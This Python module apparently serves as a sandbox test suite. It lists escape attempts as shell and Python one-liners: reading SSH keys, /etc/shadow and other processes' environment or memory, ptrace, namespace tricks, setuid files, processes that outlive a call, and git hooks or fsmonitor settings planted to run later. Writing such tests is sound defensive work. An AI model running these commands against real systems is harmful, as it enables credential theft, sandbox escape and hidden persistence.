"""Attempts of a command to reach what it was not given. Each succeeds on a plain shell, or it would prove nothing.

An attempt succeeds when its output holds the secret or `PWNED`, when a server of the host received the
secret, or when its `check`, which the host runs afterwards in the workspace, exits with 0.
"""

from __future__ import annotations

from dataclasses import asdict, dataclass, field
from typing import Any


@dataclass(frozen=True)
class Attack:
    """One attempt: commands, each a call of its own; some need root to succeed on a plain shell at all.

    `setup` is what the user did in the workspace before.
    """

    name: str
    commands: tuple[str, ...]
    check: str = ""
    needs_root: bool = False
    setup: str = ""
    options: dict[str, Any] = field(default_factory=dict[str, Any])

    def as_json(self) -> dict[str, Any]:
        return asdict(self)


def sh(
    name: str, *commands: str, check: str = "", root: bool = False, setup: str = "", **options: Any
) -> Attack:
    return Attack(name, commands, check, root, setup, options)


def py(name: str, code: str, *, check: str = "", root: bool = False, **options: Any) -> Attack:
    return Attack(name, (f"python3 -I -S - <<'END'\n{_PRELUDE}{code}\nEND",), check, root, "", options)


_PRELUDE = """
import ctypes, fcntl, mmap, os, signal, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
SECRET = '{secret}'
def call(number, *arguments):
    done = libc.syscall(number, *arguments)
    if done < 0: raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return done
"""

# A slow machine gets time where it comes; in a sandbox, where it must not, a second is enough.
_LATE = "for each in $(seq {tries}); do sleep 0.1; test -e late && break; done; test -e late"

# What git runs when it asks what has changed.
_RUNS = "printf '[core]\\n\\tfsmonitor = \"touch {top}/ran; false\"\\n\\tworktree = .\\n'"
_STATUS = "git status >/dev/null 2>&1; test -e {top}/ran && rm {top}/ran"

READING = [
    sh("read a file beside the workspace", "cat {out}/secret.txt"),
    sh("read by a relative path", "cat ../outside/secret.txt"),
    sh("read by a link", "ln -s {out}/secret.txt link; cat link"),
    sh("read by a link to a directory", "ln -s {out} link; cat link/secret.txt"),
    sh("read through /proc/self/root", "cat /proc/self/root{out}/secret.txt"),
    sh("read through the directory above the present one", "cat /proc/self/cwd/../outside/secret.txt"),
    sh("read a key of the user", "cat {top}/home/.ssh/id"),
    sh("read another workspace", "cat {top}/other/secret.txt"),
    sh("look for it everywhere", "grep -rs {secret} /var/tmp | head -1"),
    sh("pack what is above", "tar -C .. -cf - outside | strings | grep canary"),
    sh("make a hard link to it", "ln {out}/secret.txt mine; cat mine"),
    sh("read the shared memory of the host as files", "cat {shared}"),
    sh("read passwords", "grep -q '^root:[*!$]' /etc/shadow && echo PWNED", root=True),
    sh("read the keys of this machine", "ls /etc/ssl/private >/dev/null && echo PWNED", root=True),
    # One name may be there: that of the way to the interpreter of a session.
    sh("list the home of root", "ls -A ~root | sed 1d | grep -q . && echo PWNED", root=True),
    sh("read the root of another process", "cat /proc/{canary}/root{out}/secret.txt"),
    sh("read the directory of another process", "cat /proc/{canary}/cwd/secret.txt"),
    sh(
        "read an open file of another process",
        "for each in 3 4 5 6; do timeout 1 cat /proc/{canary}/fd/$each; done",
    ),
    sh("mount it", "mkdir m; mount --bind {out} m && cat m/secret.txt; umount m 2>/dev/null", root=True),
    sh("enter the mounts of another process", "nsenter -t {canary} -m cat {out}/secret.txt", root=True),
    sh("change the root", "chroot / /bin/cat {out}/secret.txt", root=True),
    py(
        "open by handle",
        "handle = ctypes.create_string_buffer(struct.pack('Ii', 128, 0), 136); mount = ctypes.c_int()\n"
        "libc.name_to_handle_at(-100, b'/usr', handle, ctypes.byref(mount), 0) == 0 or sys.exit('refused')\n"
        "fd = libc.open_by_handle_at(os.open('/usr', os.O_RDONLY), handle, 0); fd >= 0 and print('PWNED')",
        root=True,
    ),
    sh("read the messages of the kernel", "dmesg >/dev/null 2>&1 && echo PWNED", root=True),
]
ENVIRONMENT = [
    sh("read the variables of the harness from one's own", "env"),
    sh("read the variables of the harness", "tr '\\0' '\\n' < /proc/{me}/environ"),
    sh(
        "read the variables of the parent",
        "tr '\\0' '\\n' < /proc/$PPID/environ; cat /proc/*/environ 2>/dev/null | strings | grep SECRET",
    ),
    sh("read the variables of another process", "tr '\\0' '\\n' < /proc/{canary}/environ"),
    sh("read the arguments of another process", "tr '\\0' ' ' < /proc/{canary}/cmdline"),
    sh("list the processes of the host", "test -d /proc/{canary} && echo PWNED"),
    sh(
        "see the ports of the host",
        "printf ':%04X ' {tcp} > port; grep -qF \"$(cat port)\" /proc/net/tcp && echo PWNED",
    ),
]
PROCESSES = [
    sh("kill a process of the host", "kill -0 {canary} && echo PWNED"),
    sh(
        "stop a process of the host by name",
        "for each in /proc/[0-9]*; do grep -q {secret} $each/cmdline 2>/dev/null && test ${each#/proc/} = {canary} && echo PWNED; done",
    ),
    # To what it is: any other may be refused to its owner.
    py(
        "change the priority of a process of the host",
        "os.setpriority(0, {canary}, os.getpriority(0, {canary})); print('PWNED')",
    ),
    sh("change the limits of a process of the host", "prlimit --pid {canary} --core=0 && echo PWNED"),
    py(
        "read the memory of a process of the host",
        "with open('/proc/{canary}/mem', 'rb', 0) as memory: memory.seek({address}); print(memory.read(32))",
    ),
    py(
        "copy the memory of a process of the host",
        "buffer = ctypes.create_string_buffer(32)\n"
        "class Part(ctypes.Structure): _fields_ = [('base', ctypes.c_void_p), ('size', ctypes.c_size_t)]\n"
        "here, there = Part(ctypes.addressof(buffer), 32), Part({address}, 32)\n"
        "libc.process_vm_readv({canary}, ctypes.byref(here), 1, ctypes.byref(there), 1, 0); print(buffer.raw)",
    ),
    py(
        "trace a process of the host",
        "libc.ptrace(16, {canary}, 0, 0) == 0 and print('PWNED'); libc.ptrace(17, {canary}, 0, 0)",
    ),
    py(
        "trace a process of its own",
        "pid = os.fork()\nif not pid: time.sleep(5); os._exit(0)\nlibc.ptrace(16, pid, 0, 0) == 0 and print('PWNED')\nos.kill(pid, 9)",
    ),
    py(
        "take an open file of a process of the host",
        "pid = call(434, {canary}, 0); fd = call(438, pid, 3, 0); print(os.pread(fd, 64, 0))",
    ),
    py(
        "signal a process of the host by descriptor",
        "pid = call(434, {canary}, 0); call(424, pid, 0, None, 0); print('PWNED')",
    ),
]
WRITING = [
    sh("write beside the workspace", "echo PWNED > {out}/notes.txt", check="grep -q PWNED {out}/notes.txt"),
    sh(
        "write by a link",
        "ln -s {out}/notes.txt link; echo PWNED > link",
        check="grep -q PWNED {out}/notes.txt",
    ),
    sh(
        "write by a hard link",
        "ln {out}/notes.txt mine; echo PWNED > mine",
        check="grep -q PWNED {out}/notes.txt",
    ),
    sh(
        "append to a start file of the user",
        "echo PWNED >> {top}/home/.profile",
        check="grep -q PWNED {top}/home/.profile",
    ),
    sh("make a file above", "touch ../new.txt", check="test -e {top}/new.txt && rm {top}/new.txt"),
    sh("remove a file beside", "rm -f {out}/notes.txt", check="! test -e {out}/notes.txt"),
    sh("empty a file beside", ": > {out}/notes.txt", check="! test -s {out}/notes.txt"),
    sh("change the mode of a file beside", "chmod 777 {out}/notes.txt", check="test -x {out}/notes.txt"),
    sh(
        "change the time of a file beside",
        "touch -d 2001-01-01 {out}/notes.txt",
        check="test ! {out}/notes.txt -nt /etc/os-release",
    ),
    sh("move the workspace", "mv ../work ../work2", check="test -d {top}/work2"),
    sh(
        "leave a file in the host's /tmp",
        "echo x > /tmp/attacks-$$; echo /tmp/attacks-$$ > name",
        check='test -e "$(cat name)" && rm "$(cat name)"',
    ),
    sh(
        "leave a file in the host's /dev/shm",
        "echo PWNED > {shared}.new",
        check="test -e {shared}.new && rm {shared}.new",
    ),
    sh(
        "put a program in the path",
        "echo x > /usr/local/bin/attacks-probe",
        check="test -e /usr/local/bin/attacks-probe && rm /usr/local/bin/attacks-probe",
        root=True,
    ),
    sh(
        "add a file to /etc",
        "echo x > /etc/attacks-probe",
        check="test -e /etc/attacks-probe && rm /etc/attacks-probe",
        root=True,
    ),
    sh("open a setting of the kernel", "(exec 3>>/proc/sys/kernel/core_pattern) && echo PWNED", root=True),
    sh("open a setting of the memory", "(exec 3>>/proc/sys/vm/drop_caches) && echo PWNED", root=True),
    sh(
        "make a control group",
        "mkdir /sys/fs/cgroup/memory/attacks-probe && echo PWNED; rmdir /sys/fs/cgroup/memory/attacks-probe",
        root=True,
    ),
    sh(
        "change the mode of a device",
        "chmod 600 /dev/full",
        check='test "$(stat -c %a /dev/full)" = 600; was=$?; chmod 666 /dev/full; exit $was',
        root=True,
    ),
    sh("look into the first process", "test -d /proc/1/ns && echo PWNED"),
    sh(
        "read where the kernel keeps its memory",
        "head -c 1 /proc/vmallocinfo | grep -q . && echo PWNED",
        root=True,
    ),
    sh(
        "read the flags of all memory",
        "head -c 8 /proc/kpageflags | wc -c | grep -q 8 && echo PWNED",
        root=True,
    ),
    sh(
        "write in a directory to read",
        "echo PWNED > {out}/notes.txt",
        check="grep -q PWNED {out}/notes.txt",
        readable=["{out}"],
    ),
    sh("change the name of the host", 'hostname "$(hostname)" && echo PWNED', root=True),
    sh(
        "give a file away",
        "touch given; chown 4321 given",
        check='test "$(stat -c %u given)" = 4321',
        root=True,
    ),
    sh("make a program that runs as its owner", "cp /bin/true mine; chmod 4755 mine", check="test -u mine"),
    sh("make a program that runs as its group", "cp /bin/true mine; chmod 2755 mine", check="test -g mine"),
    py(
        "create a file with its owner's rights",
        "os.umask(0); os.close(os.open('mine', os.O_CREAT | os.O_WRONLY, 0o4755))",
        check="test -u mine",
    ),
    py(
        "create by creat with its owner's rights",
        "os.umask(0); call(85, b'mine', 0o4755)",
        check="test -u mine",
    ),
    py(
        "create by mknod with its owner's rights",
        "os.umask(0); os.mknod('mine', 0o104755)",
        check="test -u mine",
    ),
    py(
        "change by fchmod", "file = open('mine', 'w'); os.fchmod(file.fileno(), 0o4755)", check="test -u mine"
    ),
    py(
        "change by fchmodat2",
        "open('mine', 'w').close(); call(452, -100, b'mine', 0o4755, 0)",
        check="test -u mine",
    ),
    py(
        "create by openat2",
        "os.umask(0); how = struct.pack('QQQ', os.O_CREAT | os.O_WRONLY, 0o4755, 0); call(437, -100, b'mine', how, 24)",
        check="test -u mine",
    ),
]
SOCKETS = [
    py("connect to a port of the host", "print(socket.create_connection(('127.0.0.1', {tcp}), 3).recv(64))"),
    py(
        "connect to a port of the host by version 6",
        "print(socket.create_connection(('::1', {tcp6}), 3).recv(64))",
    ),
    py(
        "send to a port of the host",
        "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(SECRET.encode(), ('127.0.0.1', {udp})); time.sleep(0.2)",
    ),
    py(
        "connect to a socket by name",
        "s = socket.socket(socket.AF_UNIX); s.connect('{out}/socket'); print(s.recv(64))",
    ),
    py(
        "connect to an abstract socket",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}'); print(s.recv(64))",
    ),
    py(
        "connect to an abstract socket with all the network",
        "s = socket.socket(socket.AF_UNIX); s.connect('\\0{abstract}'); print(s.recv(64))",
        network="all",
    ),
    py(
        "connect to a socket in a given directory",
        "s = socket.socket(socket.AF_UNIX); s.connect('{out}/socket'); print(s.recv(64))",
        writable=["{out}"],
        protected=[],
    ),
    py(
        "send to a socket in a given directory by one of a pair",
        "one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); one.sendto(SECRET.encode(), '{out}/datagrams'); time.sleep(0.2)",
        writable=["{out}"],
    ),
    py(
        "send to an abstract socket by one of a pair",
        "one, _ = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); one.sendto(SECRET.encode(), '\\0{abstract}-d'); time.sleep(0.2)",
        network="all",
    ),
    py(
        "ask the kernel for all sockets of the host",
        "socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 4); print('PWNED')",
        network="all",
    ),
    py("read shared memory of the host", "print(ctypes.string_at(libc.shmat({shm}, None, 0o10000), 32))"),
    py(
        "see the network of the host",
        "print([name for _, name in socket.if_nameindex() if name != 'lo'] and 'PWNED')",
    ),
    py("open a raw socket", "socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); print('PWNED')", root=True),
    py(
        "open a socket to the hypervisor",
        "socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM); print('PWNED')",
    ),
    py(
        "listen on a port of the host",
        "s = socket.create_server(('127.0.0.1', 0)); open('port', 'w').write(str(s.getsockname()[1]))\nif not os.fork():\n  os.setsid(); [os.close(n) for n in (0, 1, 2)]; s.settimeout(4); s.accept()[0].send(b'PWNED')",
        # By what it says: on this machine another program may listen on a port of the same number.
        check="python3 -I -c \"import socket; port = int(open('port').read()); s = socket.create_connection(('127.0.0.1', port), 2); s.settimeout(2); assert s.recv(5) == b'PWNED'\"",
    ),
]
KERNEL = [
    py("enter a new user namespace", "libc.unshare(0x10000000) == 0 and print('PWNED')"),
    sh("enter new namespaces by a program", "unshare -Ur true && echo PWNED"),
    py(
        "clone into a new user namespace",
        "pid = call(56, 0x10000000 | 17, 0, 0, 0, 0)\nif not pid: os._exit(0)\nprint('PWNED')",
    ),
    py(
        "clone3 into a new user namespace",
        "pid = call(435, struct.pack('11Q', 0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0), 88)\nif not pid: os._exit(0)\nprint('PWNED')",
    ),
    py("set up io_uring", "call(425, 4, ctypes.create_string_buffer(120)); print('PWNED')"),
    py(
        "load a program into the kernel",
        "call(321, 0, struct.pack('IIIII', 2, 4, 4, 1, 0) + bytes(100), 120); print('PWNED')",
        root=True,
    ),
    py(
        "keep a key in the kernel",
        "call(248, b'user', b'attacks', SECRET.encode(), len(SECRET), -2); print('PWNED')",
    ),
    py("join the keyring of the session", "call(250, 0, -3, 1); print('PWNED')"),
    py(
        "make the host wait for a file by a lease",
        "import fcntl; fd = os.open('mine', os.O_RDWR | os.O_CREAT); fcntl.fcntl(fd, fcntl.F_SETLEASE, fcntl.F_WRLCK); print('PWNED')",
    ),
    py("handle page faults", "call(323, 1); print('PWNED')"),
    py(
        "measure the machine",
        "call(298, struct.pack('IIQ', 1, 128, 0) + bytes(112), 0, -1, -1, 0); print('PWNED')",
        root=True,
    ),
    py(
        "use another personality",
        "libc.personality(0x0400000) == 0 and libc.personality(0xffffffff) & 0x0400000 and print('PWNED')",
    ),
    py("open a file system", "call(430, b'tmpfs', 0); print('PWNED')", root=True),
    sh("keep capabilities", "grep -q 'CapEff:.*[1-9a-f]' /proc/self/status && echo PWNED", root=True),
    sh(
        "gain rights by a program of another owner",
        "grep -q 'NoNewPrivs:.*0' /proc/self/status && echo PWNED",
    ),
]
LIFETIME = [
    sh(
        "go on after the call",
        "setsid sleep 31.{me} </dev/null >/dev/null 2>&1 &",
        check="sleep 0.3; pkill -f '^sleep 31.{me}'",
    ),
    sh(
        "go on after the call, detached twice",
        "(setsid sh -c 'sleep 0.3; echo x > late' </dev/null >/dev/null 2>&1 &)",
        check=_LATE,
    ),
    py(
        "go on and ignore signals",
        "if not os.fork():\n  os.setsid(); [signal.signal(n, signal.SIG_IGN) for n in (1, 2, 15)]; [os.close(n) for n in (0, 1, 2)]\n  time.sleep(0.3); open('late', 'w')",
        check=_LATE,
    ),
    sh(
        "act in the next call",
        "(setsid sh -c 'sleep 0.3; touch late' </dev/null >/dev/null 2>&1 &)",
        f"{_LATE} && echo PWNED",
    ),
]
REPOSITORY = [
    sh(
        "plant a hook",
        "echo 'echo PWNED' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        check="test -e .git/hooks/pre-commit",
    ),
    sh(
        "have git run a program",
        "git config core.fsmonitor 'echo PWNED'; printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        check="grep -q fsmonitor .git/config",
    ),
    sh(
        "have git look for hooks elsewhere",
        "git config core.hooksPath evil",
        check="grep -qi hookspath .git/config",
    ),
    sh(
        "put another repository in its place",
        "mv .git old && mkdir -p .git/hooks && echo x > .git/hooks/pre-commit",
        check="test -e .git/hooks/pre-commit",
    ),
    sh(
        "remove the hooks and make others",
        "rm -rf .git/hooks; mkdir .git/hooks; echo x > .git/hooks/post-checkout",
        check="test -e .git/hooks/post-checkout",
    ),
    sh(
        "move the hooks away",
        "mv .git/hooks h; mkdir .git/hooks; echo x > .git/hooks/pre-push",
        check="test -e .git/hooks/pre-push",
    ),
    sh(
        "put a link in the place of the hooks",
        "rm -rf .git/hooks; mkdir evil; ln -s ../evil .git/hooks",
        check="test -L .git/hooks",
    ),
    sh(
        "replace the configuration by renaming",
        "echo '[core] fsmonitor = evil' > c; mv -f c .git/config",
        check="grep -q evil .git/config",
    ),
    sh("have the shell load variables", "echo 'export A=1' > .envrc", check="test -f .envrc"),
    sh(
        "have the editor run a task",
        "mkdir -p .vscode && echo '{}' > .vscode/tasks.json",
        check="test -e .vscode/tasks.json",
    ),
    sh("have an assistant start a server", "echo '{}' > .mcp.json", check="test -f .mcp.json"),
    sh(
        "remove the repository, make it again with hooks",
        "rm -rf .git; git init -q .; echo x > .git/hooks/pre-commit",
        check="test -e .git/hooks/pre-commit",
    ),
    sh(
        "plant a hook in the call that makes a repository",
        "rm -rf .git; mkdir .git 2>/dev/null; git init -q . ; echo x > .git/hooks/pre-commit",
        "true",
        check="test -s .git/hooks/pre-commit",
    ),
    sh(
        "have git look for hooks and settings elsewhere",
        "mkdir -p evil/hooks; echo x > evil/hooks/pre-commit; echo ../evil > .git/commondir",
        check="test -e .git/commondir",
    ),
    sh(
        "give git settings of a worktree",
        "echo '[core] fsmonitor = evil' > .git/config.worktree",
        check="test -s .git/config.worktree",
    ),
    sh(
        "put a file in the place of a repository",
        "git init -q evil; echo 'gitdir: evil/.git' > .git",
        check="test -e .git",
        setup="rm -rf .git",
    ),
    sh(
        "put a link in the place of a repository",
        "git init -q evil; ln -s evil/.git .git",
        check="test -e .git",
        setup="rm -rf .git",
    ),
    sh(
        "keep a hook from being removed",
        "git init -q .; echo x > .git/hooks/pre-commit; chmod 555 .git/hooks .git",
        check="chmod 755 .git .git/hooks; test -s .git/hooks/pre-commit",
        setup="rm -rf .git",
    ),
    sh(
        "bury a hook below what is too deep to remove",
        "git init -q .; cd .git/hooks; echo x > pre-commit; python3 -I -c \"import os\nfor each in range(1500): os.mkdir('d'); os.chdir('d')\"",
        check="test -s .git/hooks/pre-commit; was=$?; rm -rf .git; exit $was",
        setup="rm -rf .git",
    ),
    sh(
        "change the file that names the repository",
        "echo 'gitdir: evil' > .git || { mv .git old; echo 'gitdir: evil' > .git; }",
        check="grep -q evil .git",
        setup="mv .git real; echo 'gitdir: real' > .git",
    ),
    sh(
        "change the link that names the repository",
        "mkdir evil; ln -sfn evil .git",
        check='test "$(readlink .git)" = evil',
        setup="mv .git real; ln -s real .git",
    ),
    sh(
        "plant a hook behind a link",
        "echo x > real/hooks/pre-commit",
        check="test -s .git/hooks/pre-commit",
        setup="mv .git real; ln -s real .git",
    ),
    sh(
        "plant a link for the next call",
        "rm -rf .git 2>/dev/null; mv .git old; ln -s {top}/other .git",
        "cat .git/secret.txt",
    ),
    sh(
        "plant a link in the place of a directory on the way",
        "mv .git old 2>/dev/null; ln -sfn {out} .git",
        "ls .git/; cat .git/secret.txt",
    ),
    sh(
        "change the settings of a repository of another name",
        f"{_RUNS} >> .bare/config; {_RUNS} > .bare/config.worktree",
        check=_STATUS,
        setup="rm -rf .git; git init -q --separate-git-dir .bare .",
    ),
    sh(
        "plant a hook in a repository of another name",
        "rm -rf .bare/hooks; mkdir .bare/hooks; echo x > .bare/hooks/pre-commit",
        check="test -e .bare/hooks/pre-commit",
        setup="rm -rf .git; git init -q --separate-git-dir .bare .",
    ),
    sh(
        "make the directory itself a repository",
        f"mkdir -p objects refs; echo ref: refs/heads/main > HEAD; {_RUNS} > config; echo repositoryformatversion=0 >> config",
        check=_STATUS,
        setup="rm -rf .git",
    ),
    sh(
        "change the settings of a directory that is a repository itself",
        f"{_RUNS} >> config",
        check=_STATUS,
        setup="rm -rf .git; git init -q --bare .; git config core.bare false; git config core.worktree .",
    ),
    sh(
        "plant a hook where git was told to look for them",
        "echo x > hooks/pre-commit; mv hooks old; mkdir hooks; echo x > hooks/pre-commit",
        check="test -e hooks/pre-commit",
        setup="mkdir hooks; git config core.hooksPath hooks",
    ),
    sh(
        "plant a hook that a tool for hooks calls",
        "echo x > .husky/pre-commit",
        check="test -e .husky/pre-commit",
        setup="mkdir -p .husky/_; git config core.hooksPath .husky/_",
    ),
    sh(
        "change settings that are included",
        f"{_RUNS} > settings; {_RUNS} > missing",
        check=_STATUS,
        setup="touch settings; git config include.path ../settings; git config --add include.path ../missing",
    ),
    sh(
        "have git run a program in a submodule",
        f"git init -q sub; cd sub; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; {_RUNS} >> .git/config",
        "git add sub",
        check=_STATUS,
    ),
    sh(
        "have git run a program in a submodule of a submodule, listed where another index is kept",
        "git init -q sub; git init -q sub/sub; cd sub/sub; git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; "
        f"cd ..; git add sub; git -c user.name=a -c user.email=a@b commit -q -m a; {_RUNS} >> sub/.git/config; "
        "cd ..; git add sub; git update-index --split-index",
        check=_STATUS,
    ),
    sh(
        "change the settings of a submodule",
        f"{_RUNS} >> sub/.git/config; mv sub/.git x; {_RUNS} >> x/config; mv x sub/.git",
        check=_STATUS,
        setup="git init -q sub; git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; git add sub",
    ),
    sh(
        "have git run a program in a submodule of a repository around the workspace",
        f"rm sub/.git; git init -q sub; {_RUNS} >> sub/.git/config",
        check="cd {top} && rm -rf sub && git status >/dev/null 2>&1; rm -rf {top}/.git; test -e {top}/ran && rm {top}/ran",
        setup="rm -rf .git; mkdir sub; git init -q {top}; git init -q {top}/sub; git -C {top}/sub -c user.name=a -c user.email=a@b "
        "commit -q --allow-empty -m a; echo 'gitdir: {top}/sub/.git' > sub/.git; cd {top}; "
        "git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),work/sub",
    ),
    sh(
        "lead a worktree elsewhere to other settings",
        f"git init -q evil; {_RUNS} >> evil/.git/config; echo ../../../evil/.git > .git/worktrees/linked/commondir",
        check="git -C {top}/linked status >/dev/null 2>&1; rm -rf {top}/linked; test -e {top}/ran && rm {top}/ran",
        setup="git -c user.name=a -c user.email=a@b commit -q --allow-empty -m a; git worktree add -q {top}/linked 2>/dev/null",
    ),
]

# What a session is for: something goes on after a call.
ONLY_WITHOUT_A_SESSION = LIFETIME
ATTACKS = [*READING, *ENVIRONMENT, *PROCESSES, *WRITING, *SOCKETS, *KERNEL, *LIFETIME, *REPOSITORY]
